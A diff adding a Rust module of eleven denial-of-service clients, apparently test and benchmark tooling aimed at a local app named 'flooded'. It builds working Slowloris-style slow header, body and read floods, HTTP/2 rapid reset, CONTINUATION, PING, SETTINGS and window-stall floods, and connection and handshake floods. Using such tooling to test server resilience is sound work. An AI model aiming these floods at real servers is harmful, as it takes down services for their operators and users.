@@ -1,0 +1,222 @@
+//! Clients that mean harm: each way to make a server work, wait or remember for nothing, by many connections at once, until told to
+//! stop. The same for the story that asserts what they cost and for the bench that measures it.
+
+use std::time::Duration;
+
+use tokio::{
+    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
+    net::TcpStream,
+    sync::watch,
+    task::JoinSet,
+    time,
+};
+
+use crate::{
+    Https,
+    raw::{PREFACE, SETTINGS},
+};
+
+/// Between two bytes of who is slow, and before a connection that was refused is tried again.
+const SLOW: Duration = Duration::from_millis(200);
+
+/// Streams of one connection that are left to wait.
+const STALLED: u32 = 100;
+
+/// How a connection goes on after its beginning.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Then {
+    /// One piece after the other, as fast as they are taken.
+    Pour,
+    /// One piece now and then.
+    Drip,
+    /// Nothing, and nothing is read.
+    Stall,
+    /// It is closed, and the next one opened.
+    Leave,
+}
+
+/// One way.
+#[derive(Debug, Clone, Copy)]
+pub struct Attack {
+    /// What it is called.
+    pub name: &'static str,
+    /// So many connections at once.
+    pub connections: usize,
+    /// So many requests are under way on each of them.
+    pub requests: usize,
+    /// The protocol that is asked for; none = no TLS at all.
+    alpn: Option<&'static [u8]>,
+    begin: fn(&str) -> Vec<u8>,
+    piece: fn(u32) -> Vec<u8>,
+    then: Then,
+}
+
+const H1: Option<&[u8]> = Some(b"http/1.1");
+const H2: Option<&[u8]> = Some(b"h2");
+
+/// All of them.
+pub const ALL: [Attack; 11] = [
+    attack("connections", None, |_| Vec::new(), |_| Vec::new(), Then::Leave),
+    attack("handshakes", H2, |_| Vec::new(), |_| Vec::new(), Then::Leave),
+    attack(
+        "slow-header",
+        H1,
+        |host| format!("GET / HTTP/1.1\r\nHost: {host}\r\nX: ").into(),
+        |_| b"y".into(),
+        Then::Drip,
+    ),
+    attack("slow-body", H1, |host| posted(host, 1 << 20, 0), |_| b"y".into(), Then::Drip),
+    attack("slow-read", H1, |host| posted(host, 1 << 20, 1 << 20), |_| Vec::new(), Then::Stall),
+    attack(
+        "rapid-reset",
+        H2,
+        |_| hello(SETTINGS),
+        |number| [head(number, 5), reset(number)].concat(),
+        Then::Pour,
+    ),
+    attack(
+        "continuation",
+        H2,
+        |_| [hello(SETTINGS), head(0, 1)].concat(),
+        |_| frame(9, 0, 1, &padding()),
+        Then::Pour,
+    ),
+    attack("ping", H2, |_| hello(SETTINGS), |_| frame(6, 0, 0, b"12345678").repeat(64), Then::Pour),
+    attack("settings", H2, |_| hello(SETTINGS), |_| SETTINGS.repeat(64), Then::Pour),
+    attack(
+        "empty-data",
+        H2,
+        |_| [hello(SETTINGS), head(0, 4)].concat(),
+        |_| frame(0, 0, 1, b"").repeat(64),
+        Then::Pour,
+    ),
+    attack("window-stall", H2, |_| stalled(), |_| Vec::new(), Then::Stall),
+];
+
+const fn attack(
+    name: &'static str,
+    alpn: Option<&'static [u8]>,
+    begin: fn(&str) -> Vec<u8>,
+    piece: fn(u32) -> Vec<u8>,
+    then: Then,
+) -> Attack {
+    let connections = if matches!(then, Then::Pour | Then::Leave) { 16 } else { 200 };
+    let requests = if matches!((alpn, then), (Some(b"h2"), Then::Stall)) { STALLED as usize } else { 1 };
+    Attack { name, connections, requests, alpn, begin, piece, then }
+}
+
+fn posted(host: &str, length: usize, sent: usize) -> Vec<u8> {
+    let head = format!("POST /echo HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\n\r\n");
+    [head.into_bytes(), vec![b'y'; sent]].concat()
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).expect("frames are short").to_be_bytes();
+    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+fn hello(settings: &[u8]) -> Vec<u8> {
+    [PREFACE, settings].concat()
+}
+
+/// The nth stream's `GET /` (HPACK without its tables). Flags: 1 = it has no body, 4 = the head is whole.
+fn head(number: u32, flags: u8) -> Vec<u8> {
+    let host = b"flooded.yesterday.localhost";
+    let authority = [&[0x01, u8::try_from(host.len()).expect("it is short")], &host[..]].concat();
+    frame(1, flags, 2 * number + 1, &[&[0x82, 0x87, 0x84], &authority[..]].concat())
+}
+
+fn reset(number: u32) -> Vec<u8> {
+    frame(3, 0, 2 * number + 1, &[0, 0, 0, 8])
+}
+
+/// Fields that go on and on.
+fn padding() -> Vec<u8> {
+    [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat().repeat(8)
+}
+
+/// Requests whose answers there is no room for.
+fn stalled() -> Vec<u8> {
+    let no_window = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
+    [hello(&no_window), (0..STALLED).flat_map(|number| head(number, 5)).collect()].concat()
+}
+
+/// One that goes on.
+#[derive(Debug)]
+pub struct Flood {
+    stop: watch::Sender<bool>,
+    clients: JoinSet<()>,
+}
+
+impl Flood {
+    /// Against the app `flooded`.
+    #[must_use]
+    pub fn start(https: &Https, attack: Attack) -> Self {
+        let (stop, stopped) = watch::channel(false);
+        let mut clients = JoinSet::new();
+        for _ in 0..attack.connections {
+            let (https, mut stopped) = (https.clone(), stopped.clone());
+            clients.spawn(async move {
+                tokio::select! {
+                    _ = stopped.wait_for(|stop| *stop) => {}
+                    () = harm(https, attack) => {}
+                }
+            });
+        }
+        Self { stop, clients }
+    }
+
+    /// Ends it.
+    pub async fn stop(mut self) {
+        self.stop.send_replace(true);
+        while self.clients.join_next().await.is_some() {}
+    }
+}
+
+/// One connection after the other, for ever.
+async fn harm(https: Https, attack: Attack) {
+    let begin = (attack.begin)(&https.authority("flooded"));
+    let mut pace = time::interval(SLOW);
+    loop {
+        let gone = match attack.alpn {
+            None => match TcpStream::connect(https.address()).await {
+                Ok(stream) => converse(stream, attack, &begin).await,
+                Err(_) => None,
+            },
+            Some(alpn) => match https.tls("flooded", &[alpn]).await {
+                Ok(stream) => converse(stream, attack, &begin).await,
+                Err(_) => None,
+            },
+        };
+        if gone.is_none() && attack.then != Then::Leave {
+            pace.tick().await; // sent away
+        }
+    }
+}
+
+/// None if the other side ended it.
+async fn converse<S: AsyncRead + AsyncWrite>(stream: S, attack: Attack, begin: &[u8]) -> Option<()> {
+    let (mut from, mut to) = tokio::io::split(stream);
+    to.write_all(begin).await.ok()?;
+    to.flush().await.ok()?;
+    let read = async {
+        let mut piece = [0; 16 * 1024];
+        while from.read(&mut piece).await.is_ok_and(|length| length > 0) {}
+    };
+    let say = async {
+        let mut pace = time::interval(SLOW);
+        for number in 0.. {
+            if attack.then == Then::Drip {
+                pace.tick().await;
+            }
+            to.write_all(&(attack.piece)(number)).await.ok()?;
+            to.flush().await.ok()?;
+        }
+        Some(())
+    };
+    match attack.then {
+        Then::Leave => Some(()),
+        Then::Stall => std::future::pending().await,
+        Then::Pour | Then::Drip => tokio::select! { () = read => None, said = say => said },
+    }
+}
